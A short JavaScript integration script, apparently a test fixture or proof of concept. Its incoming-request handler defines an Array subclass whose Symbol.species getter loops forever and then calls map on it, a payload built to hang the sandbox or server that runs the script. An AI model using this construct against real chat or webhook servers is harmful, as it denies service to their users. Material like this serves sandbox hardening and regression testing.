class Script {
  process_incoming_request({ request }) {
    class Endless extends Array { static get [Symbol.species]() { for (;;); } }
    return { content: { attachments: Endless.from([1, 2]).map((x) => x) } };
  }
}
